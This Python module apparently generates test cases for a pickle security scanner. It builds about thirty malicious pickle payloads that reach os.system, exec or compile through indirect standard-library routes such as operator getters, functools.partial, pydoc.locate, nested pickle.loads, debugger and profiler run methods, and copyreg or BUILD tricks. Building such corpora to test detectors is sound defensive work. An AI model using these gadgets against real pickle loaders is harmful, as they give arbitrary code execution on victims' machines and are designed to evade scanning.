# SPDX-License-Identifier: BSD-3-Clause
"""Several calls and look-ups of the standard library, each of which looks harmless alone."""

from attacks import assemble as a


def steps(mark):
    command = a.text(mark.command)
    system = a.named("os", "system")
    import_os = a.run("builtins", "__import__", "os")
    os_module = a.run("importlib", "import_module", "os")
    nested = a.pickled(a.run("os", "system", mark.command))
    yield (
        "getattr",
        "getattr of an imported module",
        a.call(a.call(a.named("builtins", "getattr"), import_os, a.text("system")), command),
    )
    yield (
        "attrgetter",
        "operator.attrgetter",
        a.call(a.call(a.run("operator", "attrgetter", "system"), os_module), command),
    )
    yield (
        "methodcaller",
        "operator.methodcaller",
        a.call(a.run("operator", "methodcaller", "system", mark.command), os_module),
    )
    yield (
        "itemgetter",
        "operator.itemgetter of a module's dict",
        a.call(
            a.call(a.run("operator", "itemgetter", "system"), a.call(a.named("builtins", "vars"), os_module)), command
        ),
    )
    yield "partial", "functools.partial", a.call(a.call(a.named("functools", "partial"), system, command))
    yield (
        "reduce",
        "functools.reduce of exec",
        a.call(a.named("functools", "reduce"), a.named("builtins", "exec"), b"](" + a.text(mark.code) + b"}e"),
    )
    listed = b"]" + command + b"a"
    yield "map", "list of map", a.call(a.named("builtins", "list"), a.call(a.named("builtins", "map"), system, listed))
    yield (
        "filter",
        "list of filter",
        a.call(a.named("builtins", "list"), a.call(a.named("builtins", "filter"), system, listed)),
    )
    yield (
        "starmap",
        "list of itertools.starmap",
        a.call(
            a.named("builtins", "list"),
            a.call(a.named("itertools", "starmap"), system, b"]" + a.tuple_of(command) + b"a"),
        ),
    )
    yield (
        "extend",
        "list.extend by a dotted name, with map",
        a.call(a.dotted("builtins", "list.extend"), b"]", a.call(a.named("builtins", "map"), system, listed)),
    )
    yield "resolve-name", "pkgutil.resolve_name", a.call(a.run("pkgutil", "resolve_name", "os:system"), command)
    yield "locate", "pydoc.locate", a.call(a.run("pydoc", "locate", "os.system"), command)
    yield (
        "bootstrap",
        "importlib's helper that calls",
        a.call(a.named("importlib._bootstrap", "_call_with_frames_removed"), system, command),
    )
    yield (
        "compile-exec",
        "compile, then exec",
        a.call(a.named("builtins", "exec"), a.run("builtins", "compile", mark.code, "x", "exec")),
    )
    yield (
        "function-of-code",
        "a function made of code",
        a.call(
            a.call(
                a.named("types", "FunctionType"),
                a.run("builtins", "compile", mark.code, "x", "exec"),
                a.dict_of(open=a.named("builtins", "open")),
            )
        ),
    )
    yield "loads", "a pickle within bytes, for pickle.loads", a.call(a.named("pickle", "loads"), a.plain(nested))
    yield "loads-c", "the same under the name _pickle", a.call(a.named("_pickle", "loads"), a.plain(nested))
    yield "loads-python-2", "the same under the name cPickle", a.call(a.named("cPickle", "loads"), a.plain(nested))
    yield (
        "pickle-load",
        "pickle.load of io.BytesIO",
        a.call(a.named("pickle", "load"), a.call(a.named("_io", "BytesIO"), a.plain(nested))),
    )
    for module, path in (
        ("pathlib", "PosixPath.touch"),
        ("pathlib", "PosixPath.mkdir"),
    ):
        target = a.call(a.named("pathlib", "PosixPath"), a.text(mark.path))
        yield f"dotted-{path}", "a method of a harmless class", a.call(a.dotted(module, path), target)
    yield "dotted-module", "a module that another has imported", a.call(a.dotted("shutil", "os.system"), command)
    found = a.call(a.dotted("builtins", "dict.get"), a.dotted("logging", "getLogger.__globals__"), a.text("os"))
    yield (
        "dotted-globals",
        "from a function to its globals",
        a.call(a.call(a.named("builtins", "getattr"), found, a.text("system")), command),
    )
    code = a.run("builtins", "compile", mark.code, "x", "exec")
    yield (
        "function-code",
        "BUILD on a harmless function gives it other code",
        (a.named("logging", "getLogger") + b"N" + a.dict_of(__code__=code, __defaults__=b"N") + b"\x86b)R"),
    )
    yield (
        "dotted-bdb",
        "bdb's run, of an instance",
        a.call(a.dotted("bdb", "Bdb.run"), a.call(a.named("bdb", "Bdb")), a.text(mark.code)),
    )
    yield (
        "dotted-trace",
        "trace's run, of an instance",
        a.call(a.dotted("trace", "Trace.run"), a.call(a.named("trace", "Trace")), a.text(mark.code)),
    )
    yield (
        "dotted-code",
        "an interpreter's runcode",
        a.call(
            a.dotted("code", "InteractiveInterpreter.runcode"),
            a.call(a.named("code", "InteractiveInterpreter")),
            a.text(mark.code),
        ),
    )
    yield (
        "dotted-cprofile",
        "a profiler's run",
        a.call(a.dotted("cProfile", "Profile.run"), a.call(a.named("cProfile", "Profile")), a.text(mark.code)),
    )
    yield (
        "imported-as",
        "a module that another has imported under a private name",
        a.call(a.call(a.named("builtins", "getattr"), a.named("random", "_os"), a.text("system")), command),
    )
    yield (
        "type-class",
        "a class whose __setstate__ is a function",
        (
            a.call(a.call(a.named("builtins", "type"), a.text("X"), b")", a.dict_of(__setstate__=system)))
            + command
            + b"b"
        ),
    )
    yield (
        "reconstructor",
        "copyreg's way to make instances, then BUILD",
        (
            a.call(
                a.named("copyreg", "_reconstructor"),
                a.named("argparse", "Namespace"),
                a.named("builtins", "object"),
                b"N",
            )
            + a.dict_of(__setstate__=system)
            + b"b"
            + command
            + b"b"
        ),
    )
    yield (
        "newobj-function",
        "copyreg.__newobj__ of map, which tuple runs through",
        a.call(
            a.named("builtins", "tuple"),
            a.call(a.named("copyreg", "__newobj__"), a.named("builtins", "map"), system, listed),
        ),
    )
    yield (
        "default-factory",
        "a defaultdict whose missing values are calls",
        a.call(
            a.dotted("collections", "defaultdict.__missing__"),
            a.call(a.named("collections", "defaultdict"), a.call(a.named("functools", "partial"), system, command)),
            a.text("x"),
        ),
    )


def build(mark):
    for name, shows, data in steps(mark):
        yield a.Attack("steps", name, shows, a.pickled(data, protocol=4 if b"\x8c" in data else 2))
